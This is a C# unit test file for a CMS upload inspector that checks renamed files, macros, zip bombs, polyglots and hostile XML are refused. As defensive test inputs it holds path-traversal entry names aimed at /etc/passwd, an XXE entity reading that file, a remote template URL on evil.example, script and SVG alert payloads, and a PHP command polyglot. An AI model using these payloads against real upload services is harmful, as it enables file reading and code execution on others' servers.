using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Shijuan.Cms.Core.Files;
using Xunit;

namespace Shijuan.Cms.UnitTests.Files;

public class FileInspectorTests
{
    private static async Task<FileVerdict> Inspect(byte[] bytes, string name, FileLimits? limits = null)
    {
        using var file = new MemoryStream(bytes, writable: false);
        return await new FileInspector(limits ?? new FileLimits()).InspectAsync(file, name, TestContext.Current.CancellationToken);
    }

    private static async Task<FileRefused> Refused(FileRefusal reason, byte[] bytes, string name, FileLimits? limits = null)
    {
        var refused = Assert.IsType<FileRefused>(await Inspect(bytes, name, limits));
        Assert.Equal(reason, refused.Reason);
        Assert.Contains(refused.Message, c => c is >= '\u4E00' and <= '\u9FFF');
        return refused;
    }

    private static async Task Accepted(byte[] bytes, string name, FileLimits? limits = null)
    {
        var verdict = await Inspect(bytes, name, limits);
        Assert.True(verdict is FileAccepted, (verdict as FileRefused)?.Message);
    }

    public static TheoryData<string, FileKind, byte[]> Honest() => new()
    {
        { "公告.pdf", FileKind.Document, Sample.Pdf },
        { "通知.doc", FileKind.Document, Sample.Compound("WordDocument", "1Table") },
        { "通知.docx", FileKind.Document, Sample.Docx() },
        { "表.xls", FileKind.Spreadsheet, Sample.Compound("Workbook") },
        { "旧表.xls", FileKind.Spreadsheet, Sample.Compound("a", "b", "c", "d", "e", "f", "g", "Book") },
        { "表.xlsx", FileKind.Spreadsheet, Sample.Xlsx() },
        { "讲解.ppt", FileKind.Presentation, Sample.Compound("PowerPoint Document") },
        { "讲解.pptx", FileKind.Presentation, Sample.Pptx() },
        { "通知.wps", FileKind.Document, Sample.Compound("WordDocument") },
        { "新通知.wps", FileKind.Document, Sample.Docx() },
        { "表.et", FileKind.Spreadsheet, Sample.Compound("Workbook") },
        { "版式.ofd", FileKind.Document, Sample.Ofd() },
        { "说明.txt", FileKind.Text, Sample.Utf8("县政府信息公开指南") },
        { "说明2.txt", FileKind.Text, [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("指南 a<b")] },
        { "国标.txt", FileKind.Text, [0xD5, 0xFE, 0xB8, 0xAE, 0x0A] },
        { "名单.csv", FileKind.Text, Sample.Utf8("\uFEFF姓名,单位\n张三,甲局\n") },
        { "附件.zip", FileKind.Archive, Sample.Zip(("附件/一.txt", Sample.Utf8("一")), ("附件/二.docx", Sample.Docx())) },
        { "照片.jpg", FileKind.Image, Sample.Jpeg() },
        { "照片.JPEG", FileKind.Image, Sample.Jpeg() },
        { "图.png", FileKind.Image, Sample.Png() },
        { "动图.gif", FileKind.Image, Sample.Gif() },
        { "图.webp", FileKind.Image, Sample.Webp(lossless: false) },
        { "图2.webp", FileKind.Image, Sample.Webp(lossless: true) },
        { "视频.mp4", FileKind.Video, Sample.Mp4 },
        { "视频.webm", FileKind.Video, Sample.Webm("webm") },
        { "录音.mp3", FileKind.Audio, Sample.Mp3 },
    };

    [Theory]
    [MemberData(nameof(Honest))]
    public async Task A_file_that_is_what_it_says_is_accepted(string name, FileKind kind, byte[] bytes)
    {
        var verdict = await Inspect(bytes, name);

        Assert.True(verdict is FileAccepted, (verdict as FileRefused)?.Message);
        var accepted = (FileAccepted)verdict;
        Assert.Equal(kind, accepted.Kind);
        Assert.Equal(Path.GetExtension(name)[1..].ToLowerInvariant(), accepted.Extension);
        Assert.Equal(Path.GetFileNameWithoutExtension(name), Path.GetFileNameWithoutExtension(accepted.SafeFileName));
    }

    public static TheoryData<string, byte[], string> Renamed() => new()
    {
        { "通知.docx", Sample.Pdf, "这个文件的扩展名是 .docx，但内容是 PDF，请用正确的扩展名重新上传" },
        { "通知.docx", Sample.Xlsx(), "内容是 Excel 表格（xlsx）" },
        { "通知.docx", Sample.Zip(("a.txt", [65])), "内容是 ZIP 压缩包" },
        { "通知.doc", Sample.Compound("Workbook"), "内容是 Excel 表格（xls）" },
        { "通知.doc", Sample.Utf8("{\\rtf1 x}"), "内容是 RTF 文档" },
        { "表.xls", Sample.Utf8("<html><table><tr><td>1</td></tr></table>"), "内容是 网页" },
        { "图.png", Sample.Jpeg(), "内容是 JPEG 图片" },
        { "图.jpg", Sample.Utf8("<?xml version=\"1.0\"?><svg onload=\"alert(1)\"/>"), "内容是 SVG 图形" },
        { "图.jpg", [0, 0, 0, 24, .. "ftypheic"u8, .. new byte[64]], "内容是 HEIC 图片" },
        { "说明.txt", Sample.Utf8("  <!DOCTYPE html><script>alert(1)</script>"), "内容是 网页" },
        { "说明.txt", [.. Sample.Utf8(new string('a', 2000)), 0], "无法识别的数据" },
        { "附件.zip", [.. "Rar!\x1a\x07\0"u8, .. new byte[20]], "内容是 RAR 压缩包" },
        { "公告.pdf", Sample.Utf8("公告"), "内容是 纯文本" },
    };

    [Theory]
    [MemberData(nameof(Renamed))]
    public async Task A_renamed_file_is_told_what_it_really_is(string name, byte[] bytes, string expected) =>
        Assert.Contains(expected, (await Refused(FileRefusal.ContentDiffers, bytes, name)).Message, StringComparison.Ordinal);

    [Theory]
    [InlineData("a.exe")]
    [InlineData("a.html")]
    [InlineData("a.docm")]
    [InlineData("a.svg")]
    [InlineData("a.pdf.exe")]
    [InlineData("a\u202Efdp.exe")]
    [InlineData("a")]
    [InlineData("a.")]
    [InlineData("")]
    public Task A_type_that_is_not_on_the_list_is_refused(string name) => Refused(FileRefusal.TypeNotAllowed, Sample.Pdf, name);

    [Theory]
    [InlineData("a.txt")]
    [InlineData("a.pdf")]
    public Task A_program_is_refused_whatever_its_name(string name) => Refused(FileRefusal.Executable, Sample.Program, name);

    [Fact]
    public Task An_empty_file_is_refused() => Refused(FileRefusal.Empty, [], "a.pdf");

    [Fact]
    public async Task Size_limits_hold_to_the_byte()
    {
        var limits = new FileLimits { MaxBytes = Sample.Pdf.Length, MaxImageBytes = Sample.Jpeg().Length - 1 };

        await Accepted(Sample.Pdf, "a.pdf", limits);
        await Refused(FileRefusal.TooLarge, [.. Sample.Pdf, 10], "a.pdf", limits);
        await Refused(FileRefusal.TooLarge, Sample.Jpeg(), "a.jpg", limits with { MaxBytes = 1_000_000 });
    }

    [Fact]
    public async Task Macros_are_refused_wherever_they_hide()
    {
        await Refused(FileRefusal.Macros, Sample.Docx(null, ("word/vbaProject.bin", [1, 2])), "a.docx");
        await Refused(FileRefusal.Macros, Sample.Docx(null, ("WORD/VBAPROJECT.BIN", [1, 2])), "a.docx");
        await Refused(FileRefusal.Macros, Sample.Compound("WordDocument", "Macros", "VBA"), "a.doc");
        await Refused(FileRefusal.Macros, Sample.Compound("Workbook", "_VBA_PROJECT_CUR"), "a.xls");
        await Refused(FileRefusal.Macros, Sample.Zip(("a.docx", Sample.Docx(null, ("word/vbaProject.bin", [1])))), "a.zip");
        await Refused(FileRefusal.Macros, Sample.Zip(("a.doc", Sample.Compound("WordDocument", "VBA"))), "a.zip");
        await Refused(FileRefusal.Macros, Sample.Zip(
            ("[Content_Types].xml", Sample.Utf8("<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>")),
            ("word/document.xml", Sample.Utf8("<d/>"))), "a.docx");
    }

    [Fact]
    public async Task Programs_inside_archives_are_refused()
    {
        await Refused(FileRefusal.Executable, Sample.Zip(("a.exe", [1])), "a.zip");
        await Refused(FileRefusal.Executable, Sample.Zip(("a.EXE ", [1])), "a.zip");
        await Refused(FileRefusal.Executable, Sample.Zip(("说明.txt", Sample.Program)), "a.zip");
        await Refused(FileRefusal.Executable, Sample.Zip(("a", [0x7F, 0x45, 0x4C, 0x46, 1])), "a.zip");
        await Refused(FileRefusal.Executable, Sample.Zip(("内.zip", Sample.Zip(("b.js", [1])))), "a.zip");
        await Refused(FileRefusal.Executable, Sample.Docx(null, ("word/embeddings/oleObject1.bin", Sample.Compound("\u0001Ole10Native"))), "a.docx");
    }

    [Fact]
    public async Task Archives_may_nest_three_deep_and_no_deeper()
    {
        var three = Sample.Zip(("2.zip", Sample.Zip(("3.zip", Sample.Zip(("a.txt", [65]))))));

        await Accepted(three, "a.zip");
        await Refused(FileRefusal.ArchiveTooDeep, Sample.Zip(("1.zip", three)), "a.zip");
        await Refused(FileRefusal.ArchiveTooDeep, Sample.Zip(("a.txt", [.. "Rar!\x1a\x07\0"u8])), "a.zip");
    }

    [Fact]
    public async Task What_is_encrypted_cannot_be_checked_and_is_refused()
    {
        var encrypted = Sample.Zip(("a.txt", [65]));
        encrypted[6] |= 1;
        encrypted[DirectoryOf(encrypted) + 8] |= 1;

        await Refused(FileRefusal.Encrypted, encrypted, "a.zip");
        await Refused(FileRefusal.Encrypted, Sample.Compound("EncryptedPackage", "EncryptionInfo", "WordDocument"), "a.doc");
    }

    [Fact]
    public async Task A_bomb_is_stopped_by_its_ratio()
    {
        var bomb = Sample.Zip(("a.txt", new byte[8 * 1024 * 1024]));

        Assert.True(bomb.Length < 16 * 1024);
        await Refused(FileRefusal.ArchiveBomb, bomb, "a.zip");
        await Accepted(bomb, "a.zip", new FileLimits { MaxRatio = 2000 });
    }

    [Fact]
    public async Task A_bomb_is_stopped_by_its_total_over_nested_archives()
    {
        var limits = new FileLimits { MaxUnpackedBytes = 3_000_000, MaxRatio = 100_000 };
        var part = Sample.Zip(("a.txt", new byte[1_200_000]));

        await Accepted(Sample.Zip(("1.zip", part), ("2.zip", part)), "a.zip", limits);
        await Refused(FileRefusal.ArchiveBomb, Sample.Zip(("1.zip", part), ("2.zip", part), ("3.zip", part)), "a.zip", limits);
    }

    [Fact]
    public async Task A_bomb_that_declares_itself_small_is_stopped_by_what_it_unpacks_to()
    {
        var liar = Sample.Zip(("a.txt", new byte[100_000]));
        BinaryPrimitives.WriteUInt32LittleEndian(liar.AsSpan(DirectoryOf(liar) + 24), 10);

        await Refused(FileRefusal.ArchiveBomb, liar, "a.zip");
    }

    [Fact]
    public async Task A_size_declared_too_large_is_a_lie_too()
    {
        var liar = Sample.Zip(("a.txt", new byte[100]));
        BinaryPrimitives.WriteUInt32LittleEndian(liar.AsSpan(DirectoryOf(liar) + 24), 101);

        await Refused(FileRefusal.ArchiveBomb, liar, "a.zip");
    }

    [Fact]
    public async Task Entries_are_counted_over_nested_archives()
    {
        var limits = new FileLimits { MaxEntries = 5 };
        var two = Sample.Zip(("a.txt", [1]), ("b.txt", [2]));

        await Accepted(Sample.Zip(("1.zip", two), ("c.txt", [3]), ("d.txt", [4])), "a.zip", limits);
        await Refused(FileRefusal.ArchiveBomb, Sample.Zip(("1.zip", two), ("2.zip", two)), "a.zip", limits);
    }

    [Fact]
    public async Task Entries_that_share_their_bytes_are_refused()
    {
        var zip = Sample.Zip(("a.txt", [65]), ("a.txt", [65]));
        var second = DirectoryOf(zip) + 46 + 5;
        BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(second + 42), 0);

        await Refused(FileRefusal.ArchiveBomb, zip, "a.zip");
    }

    [Theory]
    [InlineData("../../etc/passwd")]
    [InlineData("a/../../b.txt")]
    [InlineData("..\\..\\b.txt")]
    [InlineData("/etc/passwd")]
    [InlineData("C:\\b.txt")]
    [InlineData("a\u0000.txt")]
    [InlineData("a/ .. /b.txt")]
    public Task An_entry_that_leaves_its_folder_is_refused(string name) =>
        Refused(FileRefusal.UnsafeEntryName, Sample.Zip((name, [65])), "a.zip");

    [Fact]
    public async Task A_link_inside_an_archive_is_refused()
    {
        using var bytes = new MemoryStream();
        using (var archive = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
            archive.CreateEntry("a.txt").ExternalAttributes = unchecked((int)0xA1FF0000);
        var zip = bytes.ToArray();
        zip[DirectoryOf(zip) + 5] = 3;

        await Refused(FileRefusal.UnsafeEntryName, zip, "a.zip");
    }

    [Theory]
    [InlineData(254, true)]
    [InlineData(100_000, false)]
    public async Task Nesting_inside_office_xml_is_limited(int depth, bool accepted)
    {
        var xml = "<d>" + string.Concat(Enumerable.Repeat("<p>", depth)) + string.Concat(Enumerable.Repeat("</p>", depth)) + "</d>";

        if (accepted) await Accepted(Sample.Docx(xml), "a.docx");
        else await Refused(FileRefusal.HostileXml, Sample.Docx(xml), "a.docx");
        if (!accepted) await Refused(FileRefusal.HostileXml, Sample.Ofd(xml), "a.ofd");
        if (!accepted) await Refused(FileRefusal.HostileXml, Sample.Zip(("a.docx", Sample.Docx(xml))), "a.zip");
    }

    [Fact]
    public async Task A_document_type_declaration_is_refused_unread()
    {
        const string entity = "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>";

        await Refused(FileRefusal.HostileXml, Sample.Docx(entity), "a.docx");
        await Refused(FileRefusal.HostileXml, Sample.Xlsx(("xl/worksheets/sheet1.xml", Sample.Utf8(entity))), "a.xlsx");
    }

    [Fact]
    public async Task A_part_larger_than_its_cap_is_refused() =>
        await Refused(FileRefusal.HostileXml, Sample.Docx(), "a.docx", new FileLimits { MaxXmlPartBytes = 20 });

    [Fact]
    public async Task A_template_loaded_from_elsewhere_is_refused_and_an_ordinary_link_is_not()
    {
        static byte[] With(string type) => Sample.Docx(null, ("word/_rels/settings.xml.rels", Sample.Utf8(
            $"<Relationships><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{type}\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>")));

        await Refused(FileRefusal.ExternalContent, With("attachedTemplate"), "a.docx");
        await Accepted(With("hyperlink"), "a.docx");
    }

    [Fact]
    public async Task A_pixel_flood_is_refused_by_its_header()
    {
        var flood = Sample.Png();
        BinaryPrimitives.WriteInt32BigEndian(flood.AsSpan(16), 50_000);
        BinaryPrimitives.WriteInt32BigEndian(flood.AsSpan(20), 50_000);
        var gif = Sample.Gif();
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(6), 60_000);
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(8), 60_000);

        await Refused(FileRefusal.TooManyPixels, flood, "a.png");
        await Refused(FileRefusal.TooManyPixels, gif, "a.gif");
        await Refused(FileRefusal.TooManyPixels, Sample.Jpeg(100, 100), "a.jpg", new FileLimits { MaxPixels = 9_999 });
        await Accepted(Sample.Jpeg(100, 100), "a.jpg", new FileLimits { MaxPixels = 10_000 });
        await Refused(FileRefusal.TooManyPixels, Sample.Webp(lossless: false), "a.webp", new FileLimits { MaxPixels = 1_199 });
    }

    [Fact]
    public async Task A_file_that_is_two_things_at_once_is_refused()
    {
        var zip = Sample.Zip(("a.txt", [65]));

        await Refused(FileRefusal.Polyglot, [.. Sample.Pdf, .. zip], "a.pdf");
        await Refused(FileRefusal.Polyglot, [.. Sample.Jpeg(), .. zip], "a.jpg");
        await Refused(FileRefusal.Polyglot, [.. Sample.Gif(), .. "/*<SCRIPT>alert(1)</SCRIPT>"u8], "a.gif");
        await Refused(FileRefusal.Polyglot, [.. Sample.Png(), .. new byte[65_536 - Sample.Png().Length - 3], .. "<?php system('id');"u8], "a.png");
    }

    [Fact]
    public async Task Damaged_files_are_refused_and_never_crash()
    {
        byte[][] whole = [Sample.Docx(), Sample.Compound("WordDocument"), Sample.Jpeg(), Sample.Png(), Sample.Webp(lossless: true), Sample.Zip(("a.txt", new byte[3000]))];
        string[] names = ["a.docx", "a.doc", "a.jpg", "a.png", "a.webp", "a.zip"];
        var random = new Random(20261123);
        for (var i = 0; i < 3000; i++)
        {
            var at = random.Next(whole.Length);
            var bytes = (byte[])whole[at].Clone();
            for (var flips = random.Next(1, 8); flips > 0; flips--) bytes[random.Next(bytes.Length)] = (byte)random.Next(256);
            if (random.Next(4) == 0) bytes = bytes[..random.Next(bytes.Length)];

            Assert.NotNull(await Inspect(bytes, names[at]));
        }
    }

    [Fact]
    public async Task A_directory_chain_that_bites_its_tail_ends()
    {
        var loop = Sample.Compound("a", "b", "c", "d", "e");
        BinaryPrimitives.WriteUInt32LittleEndian(loop.AsSpan(512 + 8), 1);

        await Refused(FileRefusal.Damaged, loop, "a.doc");
    }

    private static int DirectoryOf(byte[] zip) => BinaryPrimitives.ReadInt32LittleEndian(zip.AsSpan(zip.Length - 6));

    [Fact]
    public Task A_matroska_film_is_no_webm_video() => Refused(FileRefusal.ContentDiffers, Sample.Webm("matroska"), "视频.webm");
}
